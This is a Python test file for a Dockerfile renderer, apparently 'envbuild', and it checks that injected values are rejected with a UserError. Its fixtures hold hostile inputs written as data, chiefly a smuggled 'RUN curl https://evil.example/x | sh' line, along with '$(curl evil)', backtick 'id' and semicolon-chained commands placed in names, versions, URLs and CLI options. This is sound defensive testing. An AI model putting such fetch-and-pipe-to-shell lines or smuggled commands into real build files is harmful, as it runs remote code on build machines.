"""No injection: every value that reaches a Dockerfile is validated; a newline, quote, backslash
or smuggled instruction stops render with a UserError (exit 2), in the library and the CLI."""

from __future__ import annotations

import dataclasses
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from envbuild.cli.main import cli
from envbuild.core.errors import UserError
from envbuild.core.models import Indexes, Lock
from envbuild.render import dockerfile as render
from envbuild.render.dockerfile import RenderOptions, render_dockerfile
from tests.golden import fixtures

EVIL = "\nRUN curl https://evil.example/x | sh"


def _stack(lock: Lock, **changes: Any) -> Lock:
    return dataclasses.replace(lock, stack=dataclasses.replace(lock.stack, **changes))


def _base(lock: Lock, **changes: Any) -> Lock:
    return _stack(lock, base_image=dataclasses.replace(lock.stack.base_image, **changes))


def _framework(lock: Lock, **changes: Any) -> Lock:
    return _stack(lock, framework=dataclasses.replace(lock.stack.framework, **changes))


def _package(lock: Lock, **changes: Any) -> Lock:
    first = dataclasses.replace(lock.packages[0], **changes)
    return dataclasses.replace(lock, packages=(first, *lock.packages[1:]))


def _indexes(lock: Lock, **changes: object) -> Lock:
    return dataclasses.replace(lock, indexes=Indexes(**changes))  # type: ignore[arg-type]


G = fixtures.gpu_lock
BAD_LOCKS: dict[str, Callable[[], Lock]] = {
    "newline in a package name": lambda: _package(G(), name="torch" + EVIL),
    "quote in a package name": lambda: _package(G(), name='torch"'),
    "newline in a version": lambda: _package(G(), version="2.7.1" + EVIL),
    "trailing newline in a version": lambda: _package(G(), version="2.7.1\n"),
    "space in a version": lambda: _package(G(), version="2.7.1 ; curl evil"),
    "bad hash": lambda: _package(G(), hashes=("sha256:" + "0" * 63 + "\n",)),
    "md5 hash": lambda: _package(G(), hashes=("md5:" + "0" * 32,)),
    "instruction in the image name label": lambda: dataclasses.replace(G(), name="x" + EVIL),
    "quote in the image name label": lambda: dataclasses.replace(G(), name='x" other="y'),
    "backslash in the image name label": lambda: dataclasses.replace(G(), name="x\\"),
    "newline in NVIDIA_REQUIRE_CUDA": lambda: _base(G(), require_cuda="cuda>=12.0" + EVIL),
    "quote in NVIDIA_REQUIRE_CUDA": lambda: _base(G(), require_cuda='cuda>=12.0" X="1'),
    "newline in the base image": lambda: _base(G(), ref="ubuntu:24.04" + EVIL),
    "space in the base image": lambda: _base(G(), ref="ubuntu:24.04 AS x"),
    "untagged base image": lambda: _base(G(), ref="ubuntu"),
    "newline in the builder image": lambda: _base(G(), builder="nvidia/cuda:12.8.1" + EVIL),
    "bad base digest": lambda: dataclasses.replace(G(), base_digest="sha256:abc\nRUN x"),
    "quote in the index URL": lambda: _indexes(G(), index_url='https://x.example/simple" y'),
    "shell in the index URL": lambda: _indexes(G(), index_url="https://x.example/$(curl evil)"),
    "semicolon in an extra index": lambda: _indexes(
        G(), extra_index_urls=("https://x.example/simple;curl evil",)
    ),
    "credentials in the index URL": lambda: _indexes(
        G(), index_url="https://user:secret@x.example/simple"
    ),
    "not http(s) index URL": lambda: _indexes(G(), index_url="ftp://x.example/simple"),
    "local find-links path": lambda: _indexes(G(), find_links=("./wheels",)),
    "shell in a package source": lambda: _package(G(), source="https://x.example/`id`"),
    "newline in the framework name": lambda: _framework(G(), name="torch" + EVIL),
    "newline in the framework version": lambda: _framework(G(), version="2.7.1" + EVIL),
    "newline in the framework variant": lambda: _framework(G(), variant="cu128" + EVIL),
    "newline in the framework index": lambda: _framework(G(), index_url="https://x" + EVIL),
    "newline in the Python version": lambda: _stack(G(), python="3.12" + EVIL),
    "newline in the OS": lambda: _stack(G(), os="ubuntu24.04" + EVIL),
    "newline in the CUDA version": lambda: _stack(G(), cuda="12.8.1" + EVIL),
}

BAD_OPTIONS: dict[str, RenderOptions] = {
    "instruction in --base-image": RenderOptions(base_image="ubuntu:24.04" + EVIL),
    "quote in --index-url": RenderOptions(index_url='https://m.example/simple"'),
    "space in --index-url": RenderOptions(index_url="https://m.example/simple --trusted-host x"),
    "newline in the source label": RenderOptions(source="https://github.com/x" + EVIL),
    "CA that is not PEM": RenderOptions(ca_cert=b"not a certificate"),
    "missing wheelhouse": RenderOptions(find_links=Path("/nonexistent/wheels")),
}


@pytest.mark.parametrize("case", sorted(BAD_LOCKS))
def test_bad_lock_value_is_refused_before_rendering(case: str) -> None:
    lock = BAD_LOCKS[case]()
    with pytest.raises(UserError) as info:
        render_dockerfile(lock, options=RenderOptions(), lock_text="x")
    assert info.value.exit_code == 2
    assert info.value.hint


@pytest.mark.parametrize("case", sorted(BAD_OPTIONS))
def test_bad_option_is_refused(case: str) -> None:
    with pytest.raises(UserError) as info:
        render_dockerfile(G(), options=BAD_OPTIONS[case], lock_text="x")
    assert info.value.exit_code == 2


@pytest.mark.parametrize(
    "ref",
    [
        "nvidia/cuda:12.8.1-base-ubuntu24.04",
        "registry.example.com:5000/team/cuda:12.8.1-base",
        "ubuntu@sha256:" + "a" * 64,
        "localhost/x_y__z:v1.0",
        "debian:bookworm-slim",
    ],
)
def test_valid_image_refs_pass(ref: str) -> None:
    assert render.check_image_ref(ref) == ref


@pytest.mark.parametrize("version", ["2.7.1+cu128", "2.8.0.post2", "1.0rc1", "0.6.2", "1!2.0"])
def test_valid_versions_pass(version: str) -> None:
    assert render.check_version(version) == version


@given(st.text(min_size=1, max_size=30))
def test_lock_name_either_renders_on_one_line_or_is_refused(name: str) -> None:
    lock = dataclasses.replace(G(), name=name)
    try:
        text = render_dockerfile(lock, options=RenderOptions(), lock_text="x")
    except UserError as err:
        assert err.exit_code == 2
        return
    assert f'org.opencontainers.image.title="{name}" \\\n' in text
    assert not set(name) & set("\n\r\"\\$ '`")


@given(st.text(alphabet=st.characters(codec="ascii"), min_size=1, max_size=40))
def test_index_url_either_is_plain_or_is_refused(tail: str) -> None:
    url = f"https://m.example.com/{tail}"
    try:
        render.check_url(url)
    except UserError:
        return
    assert not set(tail) & set(" \t\n\r\"'\\$`;&|()<>*?[]{}#@!")


# --- the same through the CLI: exit 2, an error and a next step, no traceback ----------------


def _image_dir(tmp_path: Path, lock: Lock, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An image folder whose fresh lock is `lock` (load_fresh_text replaced at the I/O edge)."""
    (tmp_path / "envbuild.lock").write_text("# lock text\n")
    monkeypatch.setattr(
        "envbuild.app.inputs.load_fresh_text", lambda image_dir, **_: (None, lock, "# lock text\n")
    )
    return tmp_path


@pytest.mark.parametrize(
    "case",
    [
        "newline in a package name",
        "instruction in the image name label",
        "quote in the index URL",
        "newline in NVIDIA_REQUIRE_CUDA",
    ],
)
def test_cli_refuses_a_bad_lock_with_exit_2(
    case: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    image_dir = _image_dir(tmp_path, BAD_LOCKS[case](), monkeypatch)
    result = CliRunner().invoke(cli, ["render", str(image_dir)])
    assert result.exit_code == 2, result.output
    assert "error:" in result.output and "next:" in result.output
    assert "Traceback" not in result.output
    assert "FROM" not in result.output


@pytest.mark.parametrize(
    "args",
    [
        ["--base-image", "ubuntu:24.04\nRUN curl evil"],
        ["--index-url", 'https://m.example/simple"'],
        ["--index-url", "https://m.example/simple\nRUN curl evil"],
    ],
)
def test_cli_refuses_bad_options_with_exit_2(
    args: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    image_dir = _image_dir(tmp_path, G(), monkeypatch)
    result = CliRunner().invoke(cli, ["render", str(image_dir), *args])
    assert result.exit_code == 2, result.output
    assert "cannot go into a Dockerfile" in result.output


def test_cli_renders_a_good_lock(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    image_dir = _image_dir(tmp_path, G(), monkeypatch)
    result = CliRunner().invoke(cli, ["render", str(image_dir)])
    assert result.exit_code == 0, result.output
    expected = render_dockerfile(
        G(), options=RenderOptions(), template_dir=image_dir, lock_text="# lock text\n"
    )
    assert result.stdout == expected


def test_cli_writes_the_dockerfile_atomically(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "img").mkdir()
    image_dir = _image_dir(tmp_path / "img", G(), monkeypatch)
    out = tmp_path / "out" / "Dockerfile"
    out.parent.mkdir()
    result = CliRunner().invoke(cli, ["render", str(image_dir), "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.read_text().startswith("# Generated by envbuild")
    assert [p.name for p in out.parent.iterdir()] == ["Dockerfile"]  # no temp file left
